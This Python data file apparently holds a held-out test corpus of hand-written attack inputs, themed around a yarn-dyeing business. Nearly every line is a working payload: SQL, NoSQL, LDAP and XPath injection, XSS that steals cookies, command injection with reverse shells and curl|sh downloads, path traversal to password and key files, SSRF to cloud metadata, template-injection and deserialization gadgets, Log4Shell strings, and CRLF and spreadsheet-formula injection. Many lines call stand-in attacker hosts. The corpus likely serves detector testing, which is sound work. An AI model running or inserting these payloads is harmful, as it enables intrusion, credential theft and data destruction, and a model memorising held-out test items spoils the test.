#!/usr/bin/env python3
"""Attack values for the dyeworks held-out corpus (hand-written, seed 29402)."""
import json, os, random

SEED = 29402
HERE = os.path.dirname(os.path.abspath(__file__))


def block(s):
    out = []
    for line in s.strip("\n").split("\n"):
        line = line.strip()
        if not line:
            continue
        cls, val = line.split("|", 1)
        val = val.replace("{CRLF}", "\r\n").replace("{LF}", "\n").replace("{CR}", "\r").replace("{TAB}", "\t")
        out.append((cls.strip(), val))
    return out

LIT = {}

LIT["sqli"] = block(r"""
tautology|madder' OR '1'='1
tautology|Fjord Blue' or 1=1-- -
tautology|24-17' OR 'a'='a' -- lot lookup
tautology|B-2401' oR 2>1#
tautology|weld") OR ("x"="x
tautology|5561 or true
tautology|cochineal'||'1'='1
tautology|Slate' OR 3-2=1 LIMIT 1 -- 
union|rust' UNION SELECT username, password_hash FROM staff-- 
union|x' union all select null,null,table_name,null from information_schema.tables-- -
union|-1 UNION SELECT 1,group_concat(email),3 FROM customers
union|madder%' UNION SELECT card_last4, NULL FROM payments WHERE '%'='
union|0 union select version(),user(),database()#
union|weld' UNION/**/SELECT/**/api_key,2/**/FROM/**/supplier_accounts-- 
union|' UNiOn SeLeCt sql,null FROM sqlite_master--
union|24-30') union select name,pass from wholesale_users where ('1'='1
union|Heather' /*!50000UNION*/ /*!50000SELECT*/ 1,load_file('/etc/passwd')-- -
union|')) UNION SELECT NULL,concat(login,0x3a,pwd),NULL FROM admins#
stacked|B-2420'; DROP TABLE batches;--
stacked|Order 5561'); DELETE FROM orders WHERE 1=1; --
stacked|lot 24-11'; UPDATE users SET role='admin' WHERE email='mallory@attacker.example';--
stacked|alum'; INSERT INTO staff(login,pw) VALUES('dyer2','x');-- 
stacked|1; EXEC xp_cmdshell 'whoami'--
stacked|madder'; CREATE USER eve WITH SUPERUSER PASSWORD 'fake';--
stacked|weld'; COPY (SELECT '') TO PROGRAM 'curl attacker.example/p|sh';--
stacked|x'; ALTER TABLE recipes DROP COLUMN wof_pct; --
blind-time|madder' AND SLEEP(5)-- -
blind-time|Rust' AND (SELECT 1 FROM (SELECT SLEEP(7))z)-- 
blind-time|1 AND pg_sleep(6) IS NULL--
blind-time|weld'; WAITFOR DELAY '0:0:8'--
blind-time|cochineal' || (SELECT CASE WHEN (1=1) THEN pg_sleep(4) ELSE pg_sleep(0) END)--
blind-time|5561 AND BENCHMARK(9000000,MD5('dye'))
blind-time|' OR IF(SUBSTRING(@@version,1,1)='8',SLEEP(5),0)#
blind-time|lot' AND 1=(SELECT 1 FROM pg_sleep(5))--
blind-time|Slate'+AND+SLEEP(10)--+
blind-bool|madder' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a
blind-bool|5561 AND ASCII(SUBSTR((SELECT api_key FROM settings),1,1))>77
blind-bool|weld' AND (SELECT COUNT(*) FROM staff WHERE role='admin')>0 AND 'q'='q
blind-bool|24-17' AND 1=2 UNION SELECT 1-- 
blind-bool|rust' AND length(database())=8#
blind-bool|B-2401' AND EXISTS(SELECT * FROM users WHERE login LIKE 'ad%')--
error|madder' AND extractvalue(1,concat(0x7e,(SELECT user())))-- 
error|' AND updatexml(1,concat(0x3a,(select password from users limit 1)),1)#
error|1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--
error|weld' AND 1=CAST((SELECT current_setting('data_directory')) AS int)--
error|' OR 1 GROUP BY concat(version(),floor(rand(0)*2)) HAVING min(0)#
orderby|lot_number ASC, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)
orderby|wof_pct,(select sleep(3))
orderby|date desc; DROP TABLE mordant_log--
orderby|1 desc, IF((SELECT 1 FROM users LIMIT 1)=1, name, price)
orderby|(CASE WHEN (SELECT substr(pw,1,1) FROM staff LIMIT 1)='x' THEN colour ELSE lot END)
comment-space|madder'/**/or/**/1=1/**/--
comment-space|Rust'/*dye*/UNION/*lot*/SELECT/*x*/1,2,3--
comment-space|1/**/UnIoN/**/sElEcT/**/password/**/FrOm/**/users
whitespace|weld'%0bOR%0b1=1--
whitespace|cutch'%09union%09select%09card,2%09from%09payments--
whitespace|madder'{TAB}or{TAB}'x'='x
whitespace|'{LF}UNION{LF}SELECT email,pass FROM customers--
encoded|madder%27%20OR%20%271%27%3D%271
encoded|weld%2527%2520UNION%2520SELECT%2520login%252Cpass%2520FROM%2520staff--
encoded|rust＇ ＯＲ １＝１--
encoded|%u0027 or 1=1 --
encoded|cochineal&#39; OR &#39;1&#39;=&#39;1
encoded|0x276f7220313d31
encoded|Slate' OR CHAR(49)=CHAR(49)--
oob|madder'; SELECT LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.x.attacker.example\\a'))--
oob|weld'; exec master..xp_dirtree '\\203.0.113.9\share'--
oob|' UNION SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual--
csv-import|B-2499,2024-03-01,madder',(SELECT password FROM users)),('x,merino,1000,alum,ok
csv-import|24-40;Rust';DROP TABLE stock;--;40;note
stacked|Weld Lemon'; TRUNCATE TABLE fastness_tests; --
second-order|Colourway name: Ana'); UPDATE orders SET total=0 WHERE id=5600;--
""")

LIT["xss"] = block(r"""
script|<script>fetch('https://attacker.example/c?'+document.cookie)</script>
script|Lovely madder! <script src=//attacker.example/x.js></script>
script|Rust</textarea><script>alert(document.domain)</script>
script|<ScRiPt>new Image().src='//203.0.113.7/?k='+localStorage.token</sCrIpT>
script|weld lemon <script>/*note*/eval(atob('ZmV0Y2goIi8vYXR0YWNrZXIuZXhhbXBsZSIp'))</script>
script|"><script>location='https://attacker.example/?'+document.cookie</script>
script|</title><script>alert(1)</script>
script|<script type="module">import('//attacker.example/m.js')</script>
script|<scr<script>ipt>alert(7)</scr</script>ipt>
event|<img src=x onerror=alert(document.cookie)>
event|Swatch photo <img src="nope.jpg" onerror="fetch('//attacker.example/'+document.cookie)">
event|<svg onload=alert(1)>
event|<svg/onload=confirm`dye`>
event|<body onload=alert('madder')>
event|<details open ontoggle=alert(1)>fastness</details>
event|<input autofocus onfocus=alert(document.domain) value="lot 24-17">
event|<video><source onerror="alert(1)"></video>
event|<marquee onstart=alert(1)>new colourway</marquee>
event|<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
event|<div style="width:100%;height:100%" onmouseover="alert(1)">Fjord Blue</div>
event|<audio src=1 onerror=alert(1)>
event|<select autofocus onfocus=alert(1)><option>Rust</option></select>
event|<img src=x:x onerror=this.src='//attacker.example/?c='+document.cookie>
event|<object data="javascript:alert(1)"></object>
event|<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
attr-break|" onmouseover="alert(1)
attr-break|Madder Rose' autofocus onfocus='alert(document.cookie)
attr-break|lot 24-30" style="position:fixed;inset:0" onclick="alert(1)
attr-break|x" /><img src=x onerror=alert(1)>
attr-break|weld'><svg onload=alert(1)>
attr-break|"><iframe src=javascript:alert(1)>
uri|javascript:alert(document.cookie)
uri|JaVaScRiPt:fetch('//attacker.example/'+document.cookie)
uri|java&#x09;script:alert(1)
uri|<a href="javascript&colon;alert(1)">see recipe</a>
uri|<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">order</a>
uri|data:text/html,<script>alert(1)</script>
uri|<a href=" javascript:alert(1)">our madder guide</a>
uri|<form action=javascript:alert(1)><button>Confirm order</button></form>
uri|<math><a xlink:href="javascript:alert(1)">click</a></math>
js-context|';alert(String.fromCharCode(88,83,83));//
js-context|Rust";fetch('//attacker.example/'+document.cookie);//
js-context|</script><script>alert(1)</script>
js-context|\';alert(1);//
js-context|${alert(document.domain)}
js-context|24-17'-alert(1)-'
js-context|"+alert(1)+"
encoded|%3Cscript%3Ealert(1)%3C%2Fscript%3E
encoded|%253Csvg%2520onload%253Dalert(1)%253E
encoded|&lt;img src=x onerror=alert(1)&gt;
encoded|\u003cimg src=x onerror=alert(1)\u003e
encoded|<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>
encoded|＜script＞alert(1)＜/script＞
encoded|%uff1cscript%uff1ealert(1)%uff1c/script%uff1e
encoded|<img src=x onerror=\u0061lert(1)>
encoded|<svg><script>&#x61;lert(1)</script></svg>
markdown|[madder guide](javascript:alert(1))
markdown|![swatch](x" onerror="alert(1))
markdown|[click for lot 24-30](JAVASCRIPT:fetch('//attacker.example/?'+document.cookie))
css|<style>@import 'https://attacker.example/x.css';</style>
css|<div style="background:url('javascript:alert(1)')">Rust</div>
css|<link rel=stylesheet href=//attacker.example/s.css>
dom|#<img src=x onerror=alert(1)>
dom|<base href="https://attacker.example/">
dom|<meta http-equiv="refresh" content="0;url=https://attacker.example/phish">
dom|<template><img src=x onerror=alert(1)></template><script>document.body.append(document.querySelector('template').content)</script>
dom|<noscript><p title="</noscript><img src=x onerror=alert(1)>">
dom|<svg><animate onbegin=alert(1) attributeName=x dur=1s>
dom|<x contenteditable onblur=alert(1)>lose focus on the label</x>
polyglot|Rust'"--></style></textarea></title><svg/onload=fetch('//attacker.example/p?'+document.cookie)>
angular|{{constructor.constructor('alert(1)')()}}
svg-upload|<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>
""")

LIT["cmdi"] = block(r"""
chain|madder.jpg; cat /etc/passwd
chain|lot24-17 && id
chain|swatch.png | nc 203.0.113.5 4444 -e /bin/sh
chain|rust || curl -s http://attacker.example/x.sh | bash
chain|B-2401.csv; rm -rf /srv/dyeworks/uploads/*
chain|weld & whoami
chain|photo.jpg;wget -qO- attacker.example/m|sh
chain|label.pdf%0aid
chain|batch.csv%3Bcat%20/etc/shadow
chain|fjord.jpg{LF}uname -a
chain|report.pdf&&ping -c 4 198.51.100.23
chain|x;bash -i >& /dev/tcp/203.0.113.8/9001 0>&1
chain|Slate.png; python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.8",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
chain|24-30.jpg | tee /var/www/html/s.php <<< '<?php system($_GET[c]); ?>'
chain|cochineal; echo ZWNobyBwd25lZA== | base64 -d | sh
chain|heather;/bin/busybox telnetd -l /bin/sh -p 2323
chain|lot 24-11 ; perl -e 'system("id")'
chain|madder & type C:\Windows\win.ini
chain|weld | powershell -nop -c "iwr http://attacker.example/a.ps1 | iex"
chain|swatch.jpg & certutil -urlcache -split -f http://attacker.example/p.exe %TEMP%\p.exe
chain|rust.png; crontab -l | { cat; echo "* * * * * curl attacker.example/b|sh"; } | crontab -
subst|$(id)
subst|madder-$(whoami).jpg
subst|`cat /etc/hostname`
subst|Rust `curl attacker.example/$(hostname)`
subst|lot_$(sleep 9)
subst|$(curl -d @/etc/passwd https://attacker.example/up)
subst|weld${IFS}$(id)
subst|swatch.jpg$(nslookup $(whoami).x.attacker.example)
subst|<(curl attacker.example/c)
subst|"; $(printf '\x69\x64') #
evasion|;c'a't /e't'c/pa'ss'wd
evasion|;ca\t /et\c/pas\swd
evasion|madder;cat${IFS}/etc/passwd
evasion|weld;{cat,/etc/passwd}
evasion|rust;$'\x63\x61\x74' /etc/passwd
evasion|x;c$@at /etc/pass$@wd
evasion|lot;/???/??t /???/p??s??
evasion|B-2401;a=ca;b=t;$a$b /etc/passwd
evasion|jpg;IFS=,;`cat<<<uname,-a`
evasion|;echo${IFS}aWQ=|base64${IFS}-d|sh
evasion|swatch;who""ami
evasion|label;/usr/bin/i?
evasion|; w`u`ho`u`ami
evasion|rust%26%26id
evasion|fjord%250acat%2520/etc/passwd
evasion|slate；id
blind|madder; sleep 10
blind|weld && ping -c 15 127.0.0.1
blind|rust | timeout 8 yes > /dev/null
blind|x; nslookup dyeworks.attacker.example
blind|24-17 & ping -n 12 127.0.0.1 &
blind|lot`sleep 6`
blind|photo.jpg; dig $(id -u).cmd.attacker.example
argument|--output=/var/www/html/shell.php
argument|-o ProxyCommand=curl${IFS}attacker.example/s|sh
argument|--checkpoint=1 --checkpoint-action=exec=sh evil.sh
argument|-exec /bin/sh -c id ;
argument|--use-compress-program='sh -c id'
argument|madder.jpg -write /var/www/html/x.php
imagemagick|push graphic-context{LF}viewbox 0 0 640 480{LF}fill 'url(https://attacker.example/x.jpg"|id; ")'{LF}pop graphic-context
filename|swatch;id;.jpg
filename|"rust$(id).png"
filename|batch_$(reboot).csv
mail|supplier@attacker.example -OQueueDirectory=/tmp -X/var/www/html/log.php
mail|"-oQ/tmp/ -X/var/www/html/x.php some"@attacker.example
ssh|madder; ssh -o StrictHostKeyChecking=no root@203.0.113.4
""")

LIT["traversal"] = block(r"""
dotdot|../../../../etc/passwd
dotdot|swatches/../../../../../etc/shadow
dotdot|recipes/madder/../../../../../proc/self/environ
dotdot|../../../../../../root/.ssh/id_rsa
dotdot|..\..\..\..\windows\win.ini
dotdot|..\..\..\..\..\Windows\System32\drivers\etc\hosts
dotdot|labels/../../../../var/www/dyeworks/.env
dotdot|B-2401.csv/../../../../../etc/passwd
dotdot|../../../../../home/studio/.aws/credentials
dotdot|../../config/database.yml
dotdot|....//....//....//etc/passwd
dotdot|..././..././..././etc/hosts
dotdot|.../.../.../.../etc/passwd
dotdot|.\.\.\..\..\..\boot.ini
dotdot|/srv/dyeworks/imports/../../../etc/group
encoded|%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
encoded|..%2f..%2f..%2f..%2fetc%2fshadow
encoded|%2e%2e/%2e%2e/%2e%2e/%2e%2e/proc/self/cmdline
encoded|%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd
encoded|..%252f..%252f..%252fvar%252flog%252fnginx%252faccess.log
encoded|..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
encoded|..%e0%80%af..%e0%80%afetc/passwd
encoded|%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
encoded|..%5c..%5c..%5cwindows%5cwin.ini
encoded|%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd
encoded|..%u2216..%u2216..%u2216windows%u2216win.ini
encoded|．．／．．／．．／etc／passwd
encoded|..%255c..%255c..%255cboot.ini
nullbyte|../../../../etc/passwd%00.jpg
nullbyte|swatch/../../../../etc/shadow%00.png
nullbyte|..\..\..\..\windows\win.ini\u0000.csv
absolute|/etc/passwd
absolute|file:///etc/passwd
absolute|C:\Windows\System32\config\SAM
absolute|\\203.0.113.12\share\madder.csv
absolute|/proc/self/fd/3
absolute|/var/lib/dyeworks/backups/db.sqlite3
wrapper|php://filter/convert.base64-encode/resource=../config.php
wrapper|php://filter/read=string.rot13/resource=index.php
wrapper|zip://uploads/swatch.jpg#shell.php
wrapper|phar://uploads/recipe.jpg/x
wrapper|expect://id
archive|../../../../../var/www/html/evil.php
archive|recipes/../../../../../../etc/cron.d/dye
dotdot|/static/swatches/..;/..;/WEB-INF/web.xml
""")

LIT["ssrf"] = block(r"""
cloud-meta|http://169.254.169.254/latest/meta-data/iam/security-credentials/
cloud-meta|http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token
cloud-meta|http://metadata.google.internal/computeMetadata/v1/?recursive=true
cloud-meta|http://169.254.169.254/metadata/instance?api-version=2021-02-01
cloud-meta|http://[fd00:ec2::254]/latest/meta-data/
cloud-meta|http://169.254.170.2/v2/credentials
cloud-meta|http://100.100.100.200/latest/meta-data/ram/security-credentials/
loopback|http://127.0.0.1:8080/admin
loopback|http://localhost:6379/
loopback|https://localhost/server-status
loopback|http://127.1/admin/users
loopback|http://0.0.0.0:9200/_cat/indices
loopback|http://[::1]:8500/v1/agent/self
loopback|http://[0:0:0:0:0:ffff:127.0.0.1]/
alt-ip|http://2130706433/
alt-ip|http://0x7f000001/admin
alt-ip|http://017700000001:8080/
alt-ip|http://0177.0.0.1/
alt-ip|http://2852039166/latest/meta-data/
alt-ip|http://0xa9.0xfe.0xa9.0xfe/latest/user-data
alt-ip|http://169.254.43518/latest/meta-data/
alt-ip|http://①②⑦.⓪.⓪.①/
internal|http://10.0.0.12:5000/api/internal/export
internal|http://192.168.1.20/printer/config
internal|http://172.16.4.7:2375/containers/json
internal|http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets
internal|http://db-primary:5432/
internal|http://consul.service.consul:8500/v1/kv/?recurse
internal|http://jenkins.internal:8080/script
internal|http://10.0.0.5:8983/solr/admin/cores?action=STATUS
scheme|gopher://127.0.0.1:6379/_SET%20dyeworks%20pwned%0D%0ACONFIG%20SET%20dir%20/var/www/html%0D%0A
scheme|gopher://localhost:25/_HELO%20attacker.example%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E
scheme|dict://127.0.0.1:11211/stats
scheme|file:///proc/net/arp
scheme|file://localhost/c:/windows/win.ini
scheme|ftp://10.0.0.9/backups/db.sql
scheme|ldap://127.0.0.1:389/dc=dyeworks
scheme|tftp://198.51.100.3/boot.cfg
scheme|jar:http://attacker.example/p.jar!/
bypass|http://attacker.example@127.0.0.1/admin
bypass|http://dyeworks.example@169.254.169.254/latest/meta-data/
bypass|http://127.0.0.1.nip.io/admin
bypass|http://localtest.me:8080/internal
bypass|http://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/
bypass|http://127.0.0.1#@dyeworks.example/swatch.jpg
bypass|http://dyeworks.example.attacker.example/rebind
bypass|https://supplier.example\@127.0.0.1:8080/
bypass|http://LOCALHOST%2e/admin
bypass|http:/\/\127.0.0.1/admin
alt-ip|http://0x7f.1:631/admin/
""")

LIT["code"] = block(r"""
ssti-jinja|{{ config.items() }}
ssti-jinja|Hi {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}
ssti-jinja|{{ ''.__class__.__mro__[1].__subclasses__() }}
ssti-jinja|Lot {{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}
ssti-jinja|{{ lipsum.__globals__['os'].popen('curl attacker.example/j|sh').read() }}
ssti-jinja|{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}
ssti-jinja|{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f') }}
ssti-jinja|{{7*'7'}} {{ url_for.__globals__.current_app.config['SECRET_KEY'] }}
ssti-twig|{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
ssti-twig|{{ ['id']|filter('system') }}
ssti-twig|{{ ['cat /etc/passwd']|map('passthru')|join }}
ssti-freemarker|<#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }
ssti-freemarker|${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder",["id"]).start()}
ssti-velocity|#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()
ssti-erb|<%= `cat /etc/passwd` %>
ssti-erb|Dear <%= system('curl attacker.example/r | sh') %>,
ssti-erb|<%= File.read('/srv/dyeworks/config/secrets.yml') %>
ssti-smarty|{system('id')}
ssti-smarty|{php}passthru('uname -a');{/php}
ssti-handlebars|{{#with (lookup this "constructor") as |c|}}{{#with (c.constructor "return process.mainModule.require('child_process').execSync('id')") as |f|}}{{f}}{{/with}}{{/with}}
ssti-mako|${self.module.cache.util.os.system("id")}
ssti-pug|#{global.process.mainModule.require('child_process').execSync('id')}
ssti-tornado|{% import os %}{{ os.popen('id').read() }}
el-spring|${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}
el-spring|#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id'})}
el-spring|*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}
el-ognl|%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}
el-ognl|${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('whoami'))}
el-jsp|${pageContext.request.getSession().getServletContext().getRealPath('/')}
el-jsp|${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}
el-mvel|Runtime.getRuntime().exec("id");
log4shell|${jndi:ldap://attacker.example:1389/dye}
log4shell|Madder Rose ${jndi:rmi://203.0.113.15/Exploit}
log4shell|${${lower:j}ndi:${lower:l}dap://attacker.example/a}
log4shell|${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.44/o}
log4shell|${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}
log4shell|${j${upper:n}di:ldaps://attacker.example/x}
log4shell|${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//attacker.example/z}
log4shell|lot 24-17 ${jndi:ldap://${hostName}.attacker.example/}
log4shell|%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fe%7D
eval-js|require('child_process').exec('curl attacker.example/n|sh')
eval-js|process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')
eval-js|this.constructor.constructor('return process')().exit()
eval-js|weld"+require('child_process').execSync('id')+"
eval-py|__import__('os').system('id')
eval-py|madder'; __import__("subprocess").check_output(["cat","/etc/passwd"]); '
eval-py|exec("import socket,subprocess;s=socket.create_connection(('203.0.113.3',4444));subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())")
eval-php|<?php system($_GET['c']); ?>
eval-php|<?= `id` ?>
eval-php|phpinfo();
eval-php|";assert($_POST['x']);//
eval-php|${@eval(base64_decode($_GET[z]))}
eval-ruby|#{`id`}
eval-ruby|Kernel.open("|curl attacker.example/rb | sh")
proto|{"__proto__": {"isAdmin": true}}
proto|{"constructor": {"prototype": {"role": "admin"}}}
proto|__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//
proto|colour=rust&__proto__[shell]=/proc/self/exe&__proto__[NODE_OPTIONS]=--require /proc/self/environ
proto|{"lot":"24-17","__proto__":{"polluted":"yes","toString":"boom"}}
proto|constructor[prototype][sendmail]=1
formula|=cmd|' /C calc'!A0
formula|=HYPERLINK("https://attacker.example/?d="&A2&B2,"View madder recipe")
formula|+SUM(1+1)*cmd|' /C powershell iwr attacker.example/p'!A1
formula|-2+3+cmd|'/c notepad'!'A1'
formula|@SUM(1+9)*cmd|' /C calc'!A0
formula|=IMPORTXML(CONCAT("https://attacker.example/?x=",A1:D20),"//a")
formula|=WEBSERVICE("https://attacker.example/leak?"&B3)
formula|B-2499,2024-03-02,madder,50,merino,1000,alum,=cmd|' /C whoami'!Z0
formula|{TAB}=DDE("cmd";"/C calc";"!A0")
formula|=IMAGE("https://attacker.example/track.png?"&C2)
xxe|<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><order><note>&x;</note></order>
xxe|<!DOCTYPE batch [<!ENTITY % d SYSTEM "http://attacker.example/evil.dtd"> %d;]><batch><id>B-2401</id></batch>
xxe|<?xml version="1.0"?><!DOCTYPE s [<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data/">]><supplier>&e;</supplier>
xxe|<!DOCTYPE lolz [<!ENTITY a "dye"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><lot>&c;</lot>
xxe|<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "php://filter/convert.base64-encode/resource=/srv/dyeworks/.env">]><recipe>&f;</recipe>
xxe|<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/hostname"/>
deser-java|rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABdAAEY2FsY3QABGV4ZWN4
deser-php|O:8:"Swatches":1:{s:4:"file";s:27:"/var/www/html/shell.php";}
deser-php|a:1:{i:0;O:29:"GuzzleHttp\Psr7\FnStream":1:{s:9:"_fn_close";s:7:"phpinfo";}}
deser-py|cposix\nsystem\n(S'curl attacker.example/pk|sh'\ntR.
deser-py|!!python/object/apply:os.system ["curl attacker.example/y | sh"]
deser-yaml|!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/y.jar"]]]]
deser-dotnet|{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"},"MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]}}
deser-json|{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/x","autoCommit":true}
deser-ruby|--- !ruby/object:Gem::Installer{LF}i: x{LF}--- !ruby/object:Gem::Requirement{LF}requirements: !ruby/object:Gem::Package::TarReader{LF}  io: &1 !ruby/object:Net::BufferedIO{LF}    io: !ruby/object:Gem::Package::TarReader::Entry{LF}      read: 0{LF}      header: "id"
""")

LIT["nosqli"] = block(r"""
operator|{"lot": {"$ne": null}}
operator|{"email": "priya@dyeworks.example", "password": {"$ne": "x"}}
operator|{"username": {"$gt": ""}, "password": {"$gt": ""}}
operator|{"colour": {"$regex": "^.*"}, "price": {"$lt": 0}}
operator|{"login": {"$in": ["admin", "root", "studio"]}, "pw": {"$exists": true}}
operator|{"orderId": {"$nin": [1]}}
operator|{"$or": [{"role": "admin"}, {"1": 1}]}
operator|{"name": {"$regex": "^a", "$options": "i"}, "token": {"$ne": 1}}
param|password[$ne]=1
param|login[$regex]=^ad.*&password[$gt]=
param|colour[$ne]=rust&lot[$exists]=true
param|email[$in][]=admin@dyeworks.example&email[$in][]=x
param|user[$nin][]=guest&pass[$ne]=a
where|{"$where": "sleep(5000) || true"}
where|{"$where": "this.password.match(/^a/) && sleep(2000)"}
where|madder'; return true; var x='
where|'; while(true){}; '
where|1; db.orders.drop(); //
where|{"$where": "function(){ return db.getCollectionNames().length > 0 }"}
aggregation|[{"$lookup": {"from": "users", "localField": "x", "foreignField": "x", "as": "u"}}]
aggregation|{"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}
aggregation|{"$function": {"body": "function(){return 1}", "args": [], "lang": "js"}}
regex|{"recipe": {"$regex": "(a+)+$"}}
regex|pw[$regex]=^.{12}$
couch|{"selector": {"_id": {"$gt": null}}, "fields": ["password"]}
redis|rust\r\nFLUSHALL\r\n
elastic|{"query": {"script": {"script": "java.lang.Math.class.forName('java.lang.Runtime')"}}}
""")

LIT["crlf"] = block(r"""
log-forging|madder search{LF}2024-03-04 10:12:01 INFO admin login succeeded user=admin ip=127.0.0.1
log-forging|Rust{CRLF}[AUDIT] order 5561 refunded by owner
log-forging|lot 24-17%0a2024-03-05 09:00:00 WARN payment verified for order=9999
log-forging|weld%0d%0a127.0.0.1 - admin [05/Mar/2024:09:00:00] "GET /admin HTTP/1.1" 200
log-forging|B-2401{LF}B-2401 status=APPROVED by=quality_lead
log-forging|Fjord Blue%E5%98%8A%E5%98%8DINFO user=root action=delete_logs
log-forging|Slate\n[INFO] stock adjusted +500 skeins by system
header|en_GB{CRLF}Set-Cookie: session=attacker-fixed; Path=/
header|/shop/madder%0d%0aLocation:%20https://attacker.example/
header|rust%0D%0AX-Forwarded-Host:%20attacker.example
header|utf-8%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
header|lot{CRLF}Access-Control-Allow-Origin: https://attacker.example
header|/download?file=recipe.pdf%0d%0aContent-Disposition:%20attachment;%20filename=update.exe
header|%0d%0aSet-Cookie:%20csrftoken=0000
header|GBP%E5%98%8D%E5%98%8ASet-Cookie:%20admin=1
splitting|/orders/5561%0d%0a%0d%0a<html><body>Session expired, <a href=//attacker.example>log in</a></body></html>
splitting|weld{CRLF}{CRLF}<script>document.location='//attacker.example'</script>
mail|Order query{CRLF}Bcc: everyone@attacker.example
mail|Sam <sam@dyeworks.example>{LF}Cc: list@attacker.example
mail|priya@dyeworks.example%0aBcc:%20spam@attacker.example
mail|Re: PO-7801{CRLF}Content-Type: text/html{CRLF}{CRLF}<a href="https://attacker.example/invoice">Pay invoice</a>
mail|wholesale@dyeworks.example{CR}{LF}To: victim1@example.com, victim2@example.com
mail|Madder order%0d%0aReply-To:%20billing@attacker.example
csv-row|Rust{LF}B-9999,2024-03-01,madder,50,merino,1000,alum,=HYPERLINK("https://attacker.example","ok")
csv-row|24-30;Fjord;40;ok{CRLF}24-99;Free;9999;"refund all"
csv-row|onion skins"{LF}"B-2500","2024-03-09","=cmd|' /C calc'!A0","1","wool","1","alum","ok
csv-row|B-2401,note{LF}admin,promoted,2024-03-01
header|text/csv{LF}Refresh: 0; url=https://attacker.example/login
log-forging|cochineal order{CR}[ERROR] fraud check disabled for user=mallory
mail|Subject: Wholesale enquiry%0ABcc:%20a@attacker.example,b@attacker.example%0A%0AFree yarn! click https://attacker.example
""")

LIT["ldap-xpath"] = block(r"""
ldap|*)(uid=*))(|(uid=*
ldap|priya)(|(password=*))
ldap|admin*)((|userPassword=*)
ldap|*)(objectClass=*
ldap|studio)(&(objectClass=person)(cn=*))%00
ldap|dyer*)(memberOf=cn=admins,ou=groups,dc=dyeworks,dc=example)(uid=*
ldap|x)(|(cn=*)(mail=*@dyeworks.example)
ldap|*))%00
ldap|sam)(userPassword=a*
ldap|\2a)(uid=\2a
xpath|' or '1'='1
xpath|madder' or name()='recipe' or 'a'='b
xpath|'] | //user/password | //x['
xpath|' or count(/*)=1 or '
xpath|Rust' and substring(//user[1]/password,1,1)='a' and '1'='1
xpath|x' or string-length(name(/*[1]))>0 or 'x'='y
xpath|lot"] | //*[contains(.,"secret")] | //x["
